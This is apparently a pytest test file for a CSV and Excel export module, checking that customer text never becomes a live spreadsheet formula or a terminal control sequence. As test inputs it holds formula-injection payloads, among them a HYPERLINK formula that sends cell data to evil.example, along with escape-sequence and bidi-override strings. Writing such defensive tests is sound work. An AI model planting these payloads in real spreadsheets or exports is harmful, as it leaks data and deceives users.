"""What stands in the files: the values as they are, and nothing that a spreadsheet would carry out."""

import csv
import re
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from connector.errors import SettingsError
from connector.exports.files import write_file, write_workbook
from connector.exports.tables import Column, Sheet

HELSINKI = ZoneInfo("Europe/Helsinki")
AT = datetime(2026, 11, 12, 22, 30, tzinfo=UTC)
NASTY = ['=HYPERLINK("https://evil.example","Click")', "+358 40 123", "-1", "@SUM(A1)", "\t=1+1", 'say "no", twice\n;']


def sheet(rows: list[tuple[object, ...]]) -> Sheet:
    columns = tuple(Column(f"c{n}", f"Column {n}", lambda row, n=n: row[n]) for n in range(len(rows[0])))
    return Sheet("Things", columns, rows)


def read_csv(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "without the mark Excel reads UTF-8 as something else"
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_every_kind_of_value_in_a_csv_file(tmp_path: Path) -> None:
    rows: list[tuple[object, ...]] = [("Ääkkönen 客户", 4.0, 2.5, 3, True, AT, None)]
    assert write_file(tmp_path / "out.csv", sheet(rows), HELSINKI) == 1
    head, row = read_csv(tmp_path / "out.csv")
    assert head == [f"c{n}" for n in range(7)]
    assert row == ["Ääkkönen 客户", "4", "2.5", "3", "true", "2026-11-13T00:30+02:00", ""]


def test_every_kind_of_value_in_an_excel_file(tmp_path: Path) -> None:
    rows: list[tuple[object, ...]] = [("Ääkkönen 客户", 4.0, 2.5, 3, True, AT, None, "https://acme.example", "007")]
    write_file(tmp_path / "out.xlsx", sheet(rows), HELSINKI)
    head, row = CalamineWorkbook.from_path(str(tmp_path / "out.xlsx")).get_sheet_by_name("Things").to_python()
    assert head[0] == "Column 0"
    local = datetime(2026, 11, 13, 0, 30)  # noqa: DTZ001 - Excel knows no zones
    assert row == ["Ääkkönen 客户", 4.0, 2.5, 3.0, True, local, "", "https://acme.example", "007"]


@pytest.mark.parametrize("text", NASTY)
def test_a_customers_words_are_never_a_formula(text: str, tmp_path: Path) -> None:
    write_file(tmp_path / "out.csv", sheet([(text,)]), HELSINKI)
    assert read_csv(tmp_path / "out.csv")[1][0][0] not in "=+-@\t\r"
    write_file(tmp_path / "out.xlsx", sheet([(text,)]), HELSINKI)
    written = CalamineWorkbook.from_path(str(tmp_path / "out.xlsx")).get_sheet_by_index(0).to_python()
    assert written[1][0] == text


BEGINS_A_CELL = [
    'good;=HYPERLINK("https://evil.example?"&A1)',
    'good; "=1+1',
    "good\t@SUM(A1)",
    "good\n-1+1",
    "good\r\n+1+1",
    "\uff1d1+1",
    "good;\uff0b1",
    " =1+1",
]


@pytest.mark.parametrize("text", [*NASTY, *BEGINS_A_CELL])
def test_a_customers_words_are_no_formula_where_spreadsheets_separate_by_something_else(
    text: str, tmp_path: Path
) -> None:
    # Excel separates by ";" where numbers have a decimal comma, and quotes within a cell mean nothing to it.
    write_file(tmp_path / "out.csv", sheet([("a", text, "b")]), HELSINKI)
    lines = (tmp_path / "out.csv").read_text(encoding="utf-8-sig").removeprefix("c0,c1,c2")
    for cell in re.split("[;,\t\r\n]", lines):
        assert re.match(r'[\s"]*[-=+@\uff1d\uff0b\uff0d\uff20]', cell) is None, cell


@pytest.mark.parametrize("blank", ["\n", '\n"', "\t "])
def test_words_with_very_many_blank_lines_are_written_as_they_are(blank: str, tmp_path: Path) -> None:
    text = f"good{blank * 300_000}bye"
    write_file(tmp_path / "out.csv", sheet([(text,)]), HELSINKI)
    assert text in (tmp_path / "out.csv").read_text(encoding="utf-8-sig").replace('""', '"')


@pytest.mark.parametrize("text", ["Good; thanks", "1=1; a+b", "one\ntwo", "it's 5-6; or 7", "me@acme.example"])
def test_a_customers_words_stand_as_they_are_where_they_begin_no_formula(text: str, tmp_path: Path) -> None:
    write_file(tmp_path / "out.csv", sheet([(text,)]), HELSINKI)
    assert read_csv(tmp_path / "out.csv")[1] == [text]


def test_a_csv_file_commands_no_terminal_and_turns_no_direction(tmp_path: Path) -> None:
    name = "\x1b]0;Owned\x07Maria\x9b2J \u202eevil\x00"
    write_file(tmp_path / "out.csv", sheet([(name,)]), HELSINKI)
    assert read_csv(tmp_path / "out.csv")[1] == [r"\u001b]0;Owned\u0007Maria\u009b2J \u202eevil\u0000"]


def test_a_workbook_has_a_sheet_for_each_table(tmp_path: Path) -> None:
    second = Sheet("Others", (Column("x", "X", lambda row: row),), iter(["a", "b"]))
    assert write_workbook(tmp_path / "out.xlsx", [sheet([("a",)]), second], HELSINKI) == 3
    assert CalamineWorkbook.from_path(str(tmp_path / "out.xlsx")).sheet_names == ["Things", "Others"]


@pytest.mark.parametrize("name", ["out", "out.xls", "out.CVS"])
def test_another_ending_is_refused_and_nothing_is_written(name: str, tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match=r"\.csv nor in \.xlsx"):
        write_file(tmp_path / name, sheet([("a",)]), HELSINKI)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="cannot be written"):
        write_file(tmp_path / "nowhere" / "out.csv", sheet([("a",)]), HELSINKI)


def test_a_file_is_replaced_only_when_the_new_one_is_whole(tmp_path: Path) -> None:
    (tmp_path / "out.csv").write_text("before")

    def rows() -> object:
        yield ("a",)
        raise OSError(28, "No space left on device")

    broken = Sheet("Things", (Column("x", "X", lambda row: row[0]),), rows())  # type: ignore[arg-type]
    with pytest.raises(SettingsError, match="No space left"):
        write_file(tmp_path / "out.csv", broken, HELSINKI)
    assert (tmp_path / "out.csv").read_text() == "before"
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


def test_only_this_user_may_read_what_customers_said(tmp_path: Path) -> None:
    write_file(tmp_path / "out.csv", sheet([("a",)]), HELSINKI)
    assert (tmp_path / "out.csv").stat().st_mode & 0o077 == 0
